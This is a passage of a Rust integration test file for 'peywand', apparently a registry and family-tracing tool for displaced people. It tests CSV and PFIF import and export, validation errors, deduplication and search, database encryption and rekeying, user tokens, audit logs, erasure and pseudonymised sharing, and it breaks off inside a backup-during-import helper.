//! The `peywand` binary as a field worker runs it: import, export, the errors it explains.

#![allow(clippy::unwrap_used, clippy::expect_used)] // Test helpers fail the test by panicking.

mod common;

use std::path::Path;
use std::process::Command;

use common::{peywand, text};

fn export(db: &Path, out: &Path) -> String {
    let o = peywand(&[
        "export",
        "--db",
        db.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
        "--reason",
        "round-trip check",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    std::fs::read_to_string(out).unwrap()
}

const GOOD: &str = "record_id,household_id,site,given_name,father_name,sex,birth_date,province_of_origin,phone\n\
r-1,h-1,Torkham,ذبیح‌الله,عبدالغنی,M,۱۳۸۵,ننگرهار,۰۳۰۰۱۲۳۴۵۶۷\n\
r-2,h-1,Torkham,\"Gul, Bibi\",Mohammad Nabi,F,1385-01-01,Ningarhar,+93 70 012 3456\n";

#[test]
fn import_export_round_trip_and_idempotent_reimport() {
    let dir = tempfile::tempdir().unwrap();
    let (db, csv) = (dir.path().join("r.db"), dir.path().join("in.csv"));
    std::fs::write(&csv, GOOD).unwrap();
    let o = peywand(&[
        "import",
        "--db",
        db.to_str().unwrap(),
        csv.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("2 new, 0 already present"),
        "{}",
        text(&o)
    );
    let o = peywand(&[
        "import",
        "--db",
        db.to_str().unwrap(),
        csv.to_str().unwrap(),
    ]);
    assert!(
        text(&o).contains("0 new, 2 already present"),
        "{}",
        text(&o)
    );
    let out = export(&db, &dir.path().join("out.csv"));
    // Every raw value comes back byte for byte, Arabic script and Persian digits included.
    for value in [
        "ذبیح‌الله",
        "عبدالغنی",
        "۱۳۸۵",
        "ننگرهار",
        "۰۳۰۰۱۲۳۴۵۶۷",
        "\"Gul, Bibi\"",
        "1385-01-01",
        "+93 70 012 3456",
    ] {
        assert!(out.contains(value), "{value} missing from export:\n{out}");
    }
    // Exported files import again unchanged.
    let db2 = dir.path().join("r2.db");
    let out_path = dir.path().join("out.csv");
    assert!(
        peywand(&[
            "import",
            "--db",
            db2.to_str().unwrap(),
            out_path.to_str().unwrap()
        ])
        .status
        .success()
    );
    assert_eq!(export(&db2, &dir.path().join("out2.csv")), out);
}

#[test]
fn every_invalid_file_is_refused_and_leaves_the_database_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("r.db");
    let good = dir.path().join("good.csv");
    std::fs::write(&good, GOOD).unwrap();
    assert!(
        peywand(&[
            "import",
            "--db",
            db.to_str().unwrap(),
            good.to_str().unwrap()
        ])
        .status
        .success()
    );
    let before = export(&db, &dir.path().join("before.csv"));

    let mut latin1 = b"record_id,given_name\nr-9,".to_vec();
    latin1.extend_from_slice(b"\xC1hmad\n");
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("not UTF-8", latin1, "UTF-8"),
        (
            "no record_id column",
            b"given_name\nAhmad\n".to_vec(),
            "record_id",
        ),
        (
            "unknown column",
            b"record_id,nickname\nr-9,x\n".to_vec(),
            "unknown column",
        ),
        (
            "duplicate record_id",
            b"record_id,given_name\nr-9,Ahmad\nr-9,Karim\n".to_vec(),
            "more than once",
        ),
        (
            "empty record_id",
            b"record_id,given_name\n,Ahmad\n".to_vec(),
            "empty",
        ),
        (
            "broken quoting",
            b"record_id,given_name\nr-9,\"Ahmad\nr-10,Karim\n".to_vec(),
            "never closed",
        ),
        (
            "wrong field count",
            b"record_id,given_name\nr-9,Ahmad,extra\n".to_vec(),
            "fields",
        ),
        (
            "field too long",
            format!("record_id,given_name\nr-9,{}\n", "a".repeat(1001)).into_bytes(),
            "longer than 1000",
        ),
        (
            "no name and no household",
            b"record_id,given_name,sex\nr-9,,M\n".to_vec(),
            "no name",
        ),
        (
            "valid rows then one bad",
            b"record_id,given_name\nr-9,Ahmad\nr-10,Karim\nr-9,Nabi\n".to_vec(),
            "line 4",
        ),
        ("empty file", Vec::new(), "empty"),
    ];
    for (what, content, expect) in cases {
        let f = dir.path().join("bad.csv");
        std::fs::write(&f, content).unwrap();
        let o = peywand(&["import", "--db", db.to_str().unwrap(), f.to_str().unwrap()]);
        assert!(!o.status.success(), "{what}: must fail");
        assert!(
            text(&o).contains(expect),
            "{what}: message should mention {expect:?}:\n{}",
            text(&o)
        );
        assert!(
            text(&o).contains("nothing was imported"),
            "{what}:\n{}",
            text(&o)
        );
        assert_eq!(
            export(&db, &dir.path().join("after.csv")),
            before,
            "{what}: database changed"
        );
    }
}

#[test]
fn many_problems_are_all_listed_up_to_a_limit() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("bad.csv");
    let mut s = String::from("record_id,given_name\n");
    for _ in 0..150 {
        s.push_str(",Ahmad\n");
    }
    std::fs::write(&f, s).unwrap();
    let o = peywand(&[
        "import",
        "--db",
        dir.path().join("r.db").to_str().unwrap(),
        f.to_str().unwrap(),
    ]);
    let t = text(&o);
    assert_eq!(t.matches("column record_id").count(), 100, "{t}");
    assert!(
        t.contains("and 50 more problems") && t.contains("150 problem(s)"),
        "{t}"
    );
}

#[test]
fn names_commands_explain() {
    let o = peywand(&["names", "compare", "Mohammad Nabi", "محمد نبی"]);
    let t = String::from_utf8_lossy(&o.stdout);
    let last: f64 = t.lines().last().unwrap().parse().unwrap();
    assert!(last > 0.9, "{t}");
    assert!(t.contains("paired"), "{t}");
    let o = peywand(&["names", "compare", "Hamid", "Ahmad"]);
    let last: f64 = String::from_utf8_lossy(&o.stdout)
        .lines()
        .last()
        .unwrap()
        .parse()
        .unwrap();
    assert!(last < 0.5);
    let o = peywand(&["names", "normalize", "Haji Abdul-Ghani"]);
    let t = String::from_utf8_lossy(&o.stdout);
    assert!(
        t.contains("set aside:   haji") && t.contains("keys:"),
        "{t}"
    );
}

#[test]
fn synth_is_deterministic_per_seed() {
    let dir = tempfile::tempdir().unwrap();
    let run = |name: &str, seed: &str| {
        let out = dir.path().join(name);
        assert!(
            peywand(&[
                "synth",
                "--people",
                "300",
                "--seed",
                seed,
                "--out",
                out.to_str().unwrap()
            ])
            .status
            .success()
        );
        std::fs::read(out.join("registry.csv")).unwrap()
    };
    assert_eq!(run("a", "5"), run("b", "5"));
    assert_ne!(run("a", "5"), run("c", "6"));
}

#[test]
fn dedupe_explain_and_search_on_synthetic_registrations() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let db = dir.path().join("r.db");
    let p = |x: &Path| x.to_str().unwrap().to_string();
    assert!(
        peywand(&[
            "synth",
            "--people",
            "600",
            "--seed",
            "4",
            "--out",
            &p(&data)
        ])
        .status
        .success()
    );
    assert!(
        peywand(&["import", "--db", &p(&db), &p(&data.join("registry.csv"))])
            .status
            .success()
    );

    // Before any deduplication there is no model to explain or search with.
    let o = peywand(&["explain", "--db", &p(&db), "R00000001", "R00000002"]);
    assert!(!o.status.success());
    assert!(text(&o).contains("peywand dedupe"), "{}", text(&o));

    let clusters = dir.path().join("clusters.csv");
    let o = peywand(&["dedupe", "--db", &p(&db), "--out", &p(&clusters)]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("identities"), "{}", text(&o));
    let written = std::fs::read_to_string(&clusters).unwrap();
    let registry = std::fs::read_to_string(data.join("registry.csv")).unwrap();
    assert!(written.starts_with("record_id,cluster_id\n"));
    assert_eq!(
        written.lines().count(),
        registry.lines().count(),
        "one line per record"
    );

    let o = peywand(&["explain", "--db", &p(&db), "R00000001", "R00000002"]);
    assert!(o.status.success(), "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout).to_string();
    assert!(out.contains("given name") && out.contains("prior"), "{out}");
    let last = out.lines().last().unwrap();
    let probability: f64 = last.strip_prefix("probability ").unwrap().parse().unwrap();
    assert!((0.0..=1.0).contains(&probability));
    let o = peywand(&["explain", "--db", &p(&db), "R00000001", "no-such-record"]);
    assert!(!o.status.success());
    assert!(text(&o).contains("no-such-record"), "{}", text(&o));

    let results = dir.path().join("results.jsonl");
    let requests = data.join("tracing.jsonl");
    let search = |requests: &std::path::Path, out: &std::path::Path, more: &[&str]| {
        let (db, requests, out) = (p(&db), p(requests), p(out));
        let mut args = vec![
            "search",
            "--db",
            &db,
            "--requests",
            &requests,
            "--out",
            &out,
        ];
        args.extend_from_slice(more);
        peywand(&args)
    };
    let o = search(&requests, &results, &["--on", "2025-12-30"]);
    assert!(o.status.success(), "{}", text(&o));
    let lines: Vec<String> = std::fs::read_to_string(&results)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(
        lines.len(),
        std::fs::read_to_string(&requests).unwrap().lines().count()
    );
    let first: serde_json::Value = serde_json::from_str(&lines[0]).unwrap();
    assert!(first["request_id"].is_string() && first["candidates"].is_array());

    // Explained, the same candidates come with each field's part in their scores.
    let explained = dir.path().join("explained.jsonl");
    let o = search(&requests, &explained, &["--on", "2025-12-30", "--explain"]);
    assert!(o.status.success(), "{}", text(&o));
    let explained: Vec<serde_json::Value> = std::fs::read_to_string(&explained)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mut fields_seen = 0;
    for (line, with) in lines.iter().zip(&explained) {
        let plain: serde_json::Value = serde_json::from_str(line).unwrap();
        let (plain, with) = (&plain["candidates"], &with["candidates"]);
        assert_eq!(
            plain.as_array().unwrap().len(),
            with.as_array().unwrap().len()
        );
        for (a, b) in plain
            .as_array()
            .unwrap()
            .iter()
            .zip(with.as_array().unwrap())
        {
            assert_eq!(
                (&a["record_id"], &a["score"]),
                (&b["record_id"], &b["score"])
            );
            assert!(a.get("explanation").is_none());
            let fields = b["explanation"]["fields"].as_array().unwrap();
            assert!(fields.iter().any(|f| f["field"] == "given_name"));
            fields_seen += fields.len();
        }
    }
    assert!(fields_seen > 0, "no candidate was explained");

    // A malformed request file is refused whole, naming the line, and writes nothing.
    let bad = dir.path().join("bad.jsonl");
    std::fs::write(
        &bad,
        "{\"request_id\": \"T1\", \"given_name\": \"Nabi\"}\n{not json\n",
    )
    .unwrap();
    let none = dir.path().join("none.jsonl");
    let o = search(&bad, &none, &[]);
    assert!(!o.status.success());
    assert!(text(&o).contains("line 2"), "{}", text(&o));
    assert!(!none.exists());
    std::fs::write(&bad, "{\"given_name\": \"Nabi\"}\n").unwrap();
    let o = search(&bad, &none, &[]);
    assert!(!o.status.success());
    assert!(text(&o).contains("line 1"), "{}", text(&o));
    assert!(!none.exists());
    // A share of people sought who registered that no evidence could move is refused.
    let o = search(&requests, &none, &["--registered-share", "1"]);
    assert!(!o.status.success());
    assert!(text(&o).contains("registered-share"), "{}", text(&o));
    assert!(!none.exists());

    // Cases that ended elsewhere teach the search: one found, one closed without finding
    // the person, one found in a registration this registry does not hold.
    let ended = dir.path().join("ended.jsonl");
    let case = |found: &str| {
        format!(
            "{{\"request_id\": \"E1\", \"given_name\": \"Nabi\", \"found_record_id\": {found}}}\n"
        )
    };
    std::fs::write(
        &ended,
        [case("\"R00000001\""), case("null"), case("\"elsewhere\"")].concat(),
    )
    .unwrap();
    let taught = dir.path().join("taught.jsonl");
    let o = search(&requests, &taught, &["--ended", &p(&ended)]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("learnt from 1 ended cases whose person was found and 1 closed without")
            && text(&o).contains("1 whose registration is no longer in the registry"),
        "{}",
        text(&o)
    );
    assert!(taught.exists());
    // An ended case must say how it ended: read as unfound, it would teach a wrong share.
    std::fs::write(
        &ended,
        "{\"request_id\": \"E1\", \"given_name\": \"Nabi\"}\n",
    )
    .unwrap();
    let o = search(&requests, &none, &["--ended", &p(&ended)]);
    assert!(!o.status.success());
    assert!(
        text(&o).contains("ended cases, line 1") && text(&o).contains("found_record_id"),
        "{}",
        text(&o)
    );
    assert!(!none.exists());
}

#[test]
fn an_encrypted_registry_needs_its_key_and_can_be_rekeyed() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    let (dbs, csv, out) = (
        db.to_str().unwrap(),
        dir.path().join("in.csv"),
        dir.path().join("out.csv"),
    );
    std::fs::write(&csv, GOOD).unwrap();
    let key = dir.path().join("site.key");
    std::fs::write(&key, "the key of the Torkham laptop\n").unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let keys = key.to_str().unwrap();

    let o = peywand(&[
        "import",
        "--db",
        dbs,
        "--key-file",
        keys,
        csv.to_str().unwrap(),
    ]);
    assert!(!o.status.success());
    assert!(text(&o).contains("chmod 600"), "{}", text(&o));
    assert!(!db.exists(), "nothing is created with an unsafe key file");

    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let o = peywand(&[
        "import",
        "--db",
        dbs,
        "--key-file",
        keys,
        csv.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(!std::fs::read(&db).unwrap().starts_with(b"SQLite format 3"));

    let outs = out.to_str().unwrap();
    let o = peywand(&[
        "export",
        "--db",
        dbs,
        "--out",
        outs,
        "--reason",
        "monthly backup",
    ]);
    assert!(!o.status.success());
    assert!(text(&o).contains("key is missing or wrong"), "{}", text(&o));
    let o = peywand(&[
        "export",
        "--db",
        dbs,
        "--key-file",
        keys,
        "--out",
        outs,
        "--reason",
        "monthly backup",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(std::fs::read_to_string(&out).unwrap().contains("ذبیح‌الله"));

    let new_key = dir.path().join("new.key");
    std::fs::write(&new_key, "a new key after the old laptop was lost").unwrap();
    std::fs::set_permissions(&new_key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let new_keys = new_key.to_str().unwrap();
    let o = peywand(&[
        "rekey",
        "--db",
        dbs,
        "--key-file",
        keys,
        "--new-key-file",
        new_keys,
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let o = peywand(&[
        "export",
        "--db",
        dbs,
        "--key-file",
        keys,
        "--out",
        outs,
        "--reason",
        "monthly backup",
    ]);
    assert!(!o.status.success(), "the old key no longer opens it");
    let o = Command::new(env!("CARGO_BIN_EXE_peywand"))
        .args([
            "export",
            "--db",
            dbs,
            "--out",
            outs,
            "--reason",
            "monthly backup",
        ])
        .env("PEYWAND_DB_KEY", "a new key after the old laptop was lost")
        .env("PEYWAND_LOG", "error")
        .output()
        .unwrap();
    assert!(o.status.success(), "the new key opens it: {}", text(&o));
    assert!(
        std::fs::read_to_string(&out)
            .unwrap()
            .contains("Mohammad Nabi")
    );

    let o = peywand(&["rekey", "--db", dbs, "--key-file", new_keys, "--decrypt"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(std::fs::read(&db).unwrap().starts_with(b"SQLite format 3"));
    export(&db, &out);
}

#[test]
fn users_tokens_and_an_audit_log_that_verifies() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    let dbs = db.to_str().unwrap();
    let csv = dir.path().join("in.csv");
    std::fs::write(&csv, GOOD).unwrap();
    assert!(
        peywand(&["import", "--db", dbs, csv.to_str().unwrap()])
            .status
            .success()
    );

    let add = |args: &[&str], password: &str| {
        let mut child = Command::new(env!("CARGO_BIN_EXE_peywand"))
            .args(args)
            .env("PEYWAND_LOG", "error")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        writeln!(child.stdin.take().unwrap(), "{password}").unwrap();
        child.wait_with_output().unwrap()
    };
    let o = add(
        &[
            "user",
            "add",
            "--db",
            dbs,
            "--username",
            "amina",
            "--role",
            "registrar",
        ],
        "a long passphrase",
    );
    assert!(
        !o.status.success() && text(&o).contains("--site"),
        "{}",
        text(&o)
    );
    let o = add(
        &[
            "user",
            "add",
            "--db",
            dbs,
            "--username",
            "amina",
            "--role",
            "registrar",
            "--site",
            "torkham",
        ],
        "short",
    );
    assert!(
        !o.status.success() && text(&o).contains("at least 12"),
        "{}",
        text(&o)
    );
    let o = add(
        &[
            "user",
            "add",
            "--db",
            dbs,
            "--username",
            "amina",
            "--role",
            "clerk",
            "--site",
            "torkham",
        ],
        "a long passphrase",
    );
    assert!(
        !o.status.success() && text(&o).contains("unknown role"),
        "{}",
        text(&o)
    );
    let o = add(
        &[
            "user",
            "add",
            "--db",
            dbs,
            "--username",
            "amina",
            "--role",
            "registrar",
            "--site",
            "torkham",
        ],
        "a long passphrase",
    );
    assert!(o.status.success(), "{}", text(&o));
    let o = add(
        &[
            "user",
            "add",
            "--db",
            dbs,
            "--username",
            "amina",
            "--role",
            "auditor",
        ],
        "a long passphrase",
    );
    assert!(
        !o.status.success() && text(&o).contains("taken"),
        "{}",
        text(&o)
    );

    let o = peywand(&[
        "token",
        "create",
        "--db",
        dbs,
        "--username",
        "amina",
        "--label",
        "kobo",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let token = String::from_utf8_lossy(&o.stdout).trim().to_string();
    assert!(token.starts_with("pt_") && token.len() > 60, "{token}");
    let o = peywand(&["token", "list", "--db", dbs]);
    let listing = text(&o);
    assert!(listing.contains("amina") && listing.contains("kobo") && !listing.contains(&token));
    let id = listing
        .lines()
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_string();
    assert!(
        peywand(&["token", "revoke", "--db", dbs, &id])
            .status
            .success()
    );
    assert!(
        !peywand(&["token", "revoke", "--db", dbs, "no-such-token"])
            .status
            .success()
    );

    let out = dir.path().join("out.csv");
    let o = peywand(&[
        "export",
        "--db",
        dbs,
        "--out",
        out.to_str().unwrap(),
        "--reason",
        "",
    ]);
    assert!(
        !o.status.success() && text(&o).contains("--reason"),
        "{}",
        text(&o)
    );
    assert!(!out.exists(), "nothing is exported without a reason");

    let o = peywand(&["audit", "verify", "--db", dbs]);
    assert!(o.status.success(), "{}", text(&o));
    // import, user_add, token_create, token_revoke
    assert!(text(&o).contains("intact: 4 entries"), "{}", text(&o));
}

#[test]
fn a_person_is_erased_on_request_and_the_erasure_is_audited() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    let dbs = db.to_str().unwrap();
    let csv = dir.path().join("in.csv");
    std::fs::write(&csv, GOOD).unwrap();
    assert!(
        peywand(&["import", "--db", dbs, csv.to_str().unwrap()])
            .status
            .success()
    );
    let o = peywand(&["purge", "--db", dbs, "--record", "r-1", "--reason", ""]);
    assert!(
        !o.status.success() && text(&o).contains("--reason"),
        "{}",
        text(&o)
    );
    let o = peywand(&[
        "purge",
        "--db",
        dbs,
        "--record",
        "r-1",
        "--reason",
        "the person asked",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let exported = export(&db, &dir.path().join("out.csv"));
    assert!(
        !exported.contains("r-1,") && exported.contains("r-2,"),
        "{exported}"
    );
    let o = peywand(&[
        "purge",
        "--db",
        dbs,
        "--record",
        "r-1",
        "--reason",
        "the person asked",
    ]);
    assert!(
        !o.status.success() && text(&o).contains("no registration r-1"),
        "{}",
        text(&o)
    );
    let o = peywand(&[
        "purge",
        "--db",
        dbs,
        "--registered-before",
        "2999-01-01",
        "--reason",
        "retention period over",
    ]);
    assert!(
        o.status.success() && text(&o).contains("1 registrations"),
        "{}",
        text(&o)
    );
    let o = peywand(&[
        "purge",
        "--db",
        dbs,
        "--cases-ended-before",
        "2999-01-01",
        "--reason",
        "retention period over",
    ]);
    assert!(
        o.status.success()
            && text(&o).contains("0 tracing cases")
            && text(&o).contains("open cases are kept"),
        "{}",
        text(&o)
    );
    let o = peywand(&[
        "purge",
        "--db",
        dbs,
        "--record",
        "r-2",
        "--cases-ended-before",
        "2999-01-01",
        "--reason",
        "retention period over",
    ]);
    assert!(!o.status.success(), "one kind of erasure at a time");
    let o = peywand(&["audit", "verify", "--db", dbs]);
    // import, three erasures and the failed one (audited before it is tried), one export
    assert!(text(&o).contains("intact: 6 entries"), "{}", text(&o));
}

#[test]
fn records_shared_with_a_partner_carry_pseudonyms_stable_for_that_partner() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("site.db");
    let dbs = db.to_str().unwrap();
    let csv = dir.path().join("in.csv");
    std::fs::write(&csv, GOOD).unwrap();
    assert!(
        peywand(&["import", "--db", dbs, csv.to_str().unwrap()])
            .status
            .success()
    );
    let secret = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
        path
    };
    let (a, b) = (
        secret("a.secret", "partnership with organisation A"),
        secret("b.secret", "partnership with organisation B"),
    );
    let shared = |with: &Path, name: &str| {
        let out = dir.path().join(name);
        let o = peywand(&[
            "export",
            "--db",
            dbs,
            "--out",
            out.to_str().unwrap(),
            "--reason",
            "monthly sharing",
            "--pseudonymise-with",
            with.to_str().unwrap(),
        ]);
        assert!(o.status.success(), "{}", text(&o));
        std::fs::read_to_string(out).unwrap()
    };
    let first = shared(&a, "a1.csv");
    assert!(!first.contains("r-1") && !first.contains("h-1"), "{first}");
    assert!(first.contains("ذبیح‌الله"), "the rest is as typed");
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(first.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert!(rows.iter().all(|r| r[0].starts_with("p-")));
    assert_eq!(rows[0][1], rows[1][1], "one household, one pseudonym");
    assert_eq!(shared(&a, "a2.csv"), first, "stable for one partner");
    let other = shared(&b, "b.csv");
    assert_ne!(other, first, "unrelated for another partner");
}

/// Person Finder's own PFIF 1.4 test document.
const PERSON_FINDER: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../testdata/pfif/person-finder-1.4.xml"
);

#[test]
fn pfif_from_person_finder_is_imported_and_exported_again_unchanged() {
    use peywand_interchange::pfif;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("r.db");
    let db = db.to_str().unwrap();
    let o = peywand(&[
        "pfif",
        "import",
        "--db",
        db,
        PERSON_FINDER,
        "--site",
        "torkham",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("1 new tracing requests"), "{}", text(&o));
    assert!(text(&o).contains("4 new notes"), "{}", text(&o));
    // Again: nothing is duplicated.
    let o = peywand(&["pfif", "import", "--db", db, PERSON_FINDER]);
    assert!(
        text(&o).contains(
            "0 new tracing requests (1 persons already held), 0 new notes (4 already held)"
        ),
        "{}",
        text(&o)
    );

    let out = dir.path().join("out.xml");
    let o = peywand(&["pfif", "export", "--db", db, "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    let exported = std::fs::read(&out).unwrap();
    let original = pfif::read(&std::fs::read(PERSON_FINDER).unwrap()).unwrap();
    let back = pfif::read(&exported).unwrap_or_else(|e| panic!("{e}: {:?}", e.problems));
    assert_eq!(back.persons.len(), 1);
    let (a, b) = (&original.persons[0], &back.persons[0]);
    let without_entry = |f: &std::collections::BTreeMap<String, String>| {
        let mut f = f.clone();
        f.remove("entry_date");
        f
    };
    assert_eq!(
        without_entry(&a.fields),
        without_entry(&b.fields),
        "every person field kept"
    );
    assert_eq!(a.notes.len(), b.notes.len());
    for (x, y) in a.notes.iter().zip(&b.notes) {
        assert_eq!(
            without_entry(&x.fields),
            without_entry(&y.fields),
            "every note field kept"
        );
    }
    assert_ne!(
        b.field("entry_date"),
        a.field("entry_date"),
        "entry_date is when Peywand received it"
    );
    let text_out = String::from_utf8(exported).unwrap();
    assert!(text_out.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<pfif:pfif xmlns:pfif=\"http://zesty.ca/pfif/1.4\">"));
    assert!(
        text_out.contains("<pfif:given_name>_test_first_name</pfif:given_name>"),
        "PFIF 1.4 names"
    );

    // The export is audited with its reason.
    let o = peywand(&["audit", "verify", "--db", db]);
    assert!(o.status.success(), "{}", text(&o));
}

/// An administrator keeps death reports only when told to, and names what a partner's token
/// may write.
#[test]
fn pfif_death_reports_and_partners_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("r.db");
    let db = db.to_str().unwrap();
    let testdata = concat!(env!("CARGO_MANIFEST_DIR"), "/../../testdata/pfif/");
    let file = |name: &str| format!("{testdata}{name}");
    let o = peywand(&[
        "pfif",
        "import",
        "--db",
        db,
        &file("person-finder-pfif-1.2.xml"),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let dead = file("person-finder-pfif-1.2-believed-dead.xml");
    let o = peywand(&["pfif", "import", "--db", db, &dead]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("0 new notes"), "{}", text(&o));
    assert!(
        text(&o).contains("1 notes saying believed_dead were skipped"),
        "{}",
        text(&o)
    );
    let o = peywand(&["pfif", "import", "--db", db, &dead, "--may-report-death"]);
    assert!(text(&o).contains("1 new notes"), "{}", text(&o));

    let o = peywand(&[
        "pfif",
        "partner",
        "--db",
        db,
        "no-such-token",
        "--pfif-domain",
        "example.org",
    ]);
    assert!(!o.status.success());
    assert!(text(&o).contains("there is no token"), "{}", text(&o));
    user_and_token(&["--db", db], "feed", "caseworker", "torkham");
    let o = peywand(&["token", "list", "--db", db]);
    let listed = String::from_utf8_lossy(&o.stdout).to_string();
    let id = listed
        .split_whitespace()
        .find(|w| w.len() > 8 && !w.contains(':'))
        .unwrap_or_default()
        .to_string();
    let o = peywand(&[
        "pfif",
        "partner",
        "--db",
        db,
        &id,
        "--pfif-domain",
        "not a domain",
    ]);
    assert!(!o.status.success(), "{}", text(&o));
    let o = peywand(&[
        "pfif",
        "partner",
        "--db",
        db,
        &id,
        "--pfif-domain",
        "Finder.Example.org",
        "--pfif-domain",
        "test.google.com",
    ]);
    assert!(o.status.success(), "{listed}: {}", text(&o));
    assert!(
        text(&o).contains("domains: finder.example.org, test.google.com; may report a death: no"),
        "{}",
        text(&o)
    );
}

#[test]
fn invalid_pfif_is_refused_whole_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("r.db");
    let db = db.to_str().unwrap();
    let o = peywand(&["pfif", "import", "--db", db, PERSON_FINDER]);
    assert!(o.status.success(), "{}", text(&o));
    let good_person = "<pfif:person><pfif:person_record_id>b.org/1</pfif:person_record_id><pfif:source_date>2024-01-01T00:00:00Z</pfif:source_date><pfif:full_name>Gul Bibi</pfif:full_name></pfif:person>";
    let wrap = |body: &str| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<pfif:pfif xmlns:pfif=\"http://zesty.ca/pfif/1.4\">\n{body}\n</pfif:pfif>\n"
        )
    };
    let bad = [
        (
            wrap(&format!(
                "{good_person}<pfif:person><pfif:full_name>no id</pfif:full_name></pfif:person>"
            )),
            "no person_record_id",
        ),
        (
            wrap(&format!(
                "{good_person}<pfif:note><pfif:note_record_id>b.org/n1</pfif:note_record_id><pfif:person_record_id>b.org/404</pfif:person_record_id><pfif:source_date>2024-01-01T00:00:00Z</pfif:source_date><pfif:text>x</pfif:text></pfif:note>"
            )),
            "is neither in the file nor among the cases this import may write to",
        ),
        (
            wrap(good_person).replace("</pfif:pfif>", ""),
            "the file ends before </pfif:pfif>",
        ),
        ("name,phone\nGul,0700\n".to_string(), "not a PFIF document"),
    ];
    for (doc, expected) in bad {
        let file = dir.path().join("bad.xml");
        std::fs::write(&file, doc).unwrap();
        let o = peywand(&["pfif", "import", "--db", db, file.to_str().unwrap()]);
        assert!(!o.status.success());
        assert!(text(&o).contains(expected), "{expected}: {}", text(&o));
    }
    let out = dir.path().join("out.xml");
    let o = peywand(&["pfif", "export", "--db", db, "--out", out.to_str().unwrap()]);
    assert!(
        text(&o).contains("1 tracing cases written"),
        "only the first file's person: {}",
        text(&o)
    );
}

/// Keeps importing small batches into `db` until told to stop; returns the batches each
/// import acknowledged (exited successfully), in order.
fn stream_registrations(
    db: String,
    key_args: Vec<String>,
    dir: std::path::PathBuf,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    acknowledged: std::sync::Arc<std::sync::Mutex<Vec<usize>>>,
) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let mut batch = 0;
        while !stop.load(std::sync::atomic::Ordering::SeqCst) && batch < 500 {
            let csv = dir.join(format!("batch-{batch}.csv"));
            let mut rows = String::from(
                "record_id,household_id,site,given_name,father_name,sex,birth_date,province_of_origin\n",
            );
            for member in 0..20 {
                rows.push_str(&format!(
                    "b{batch}-r{member},b{batch}-h{},Torkham,Nabi{member},Karim{batch},M,1390,Nangarhar\n",
                    member / 5
                ));
            }
            std::fs::write(&csv, rows).unwrap();
            let mut args = vec!["import", "--db", db.as_str()];
            args.extend(key_args.iter().map(String::as_str));
            args.push(csv.to_str().unwrap());
            let o = peywand(&args);
            assert!(o.status.success(), "{}", text(&o));
            acknowledged.lock().unwrap().push(batch);
            batch += 1;
        }
    })
}

/// A backup taken while registrations stream in holds every registration acknowledged before
/// it began, each batch whole or not at all, and restored, its audit chain verifies.
fn backup_during_a_stream_restores_whole(db: &str, restored: &str, key_args: &[String]) {
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::{Arc, Mutex};
    let dir = tempfile::tempdir().unwrap();
    let secret = |name: &str| {
        use std::os::unix::fs::PermissionsExt;
        let path = dir.path().join(name);
        std::fs::write(
            &path,
            format!("{name}: a key the administrator keeps apart\n"),
        )
        .unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
        path.to_str().unwrap().to_string()
    };
    let backup_key = secret("backup.key");
    let backup = dir.path().join("registry.backup");
    let (stop, acknowledged) = (
        Arc::new(AtomicBool::new(false)),
        Arc::new(Mutex::new(Vec::new())),
    );
    let writer = stream_registrations(
        db.to_string(),
        key_args.to_vec(),
        dir.path().to_path_buf(),
        stop.clone(),
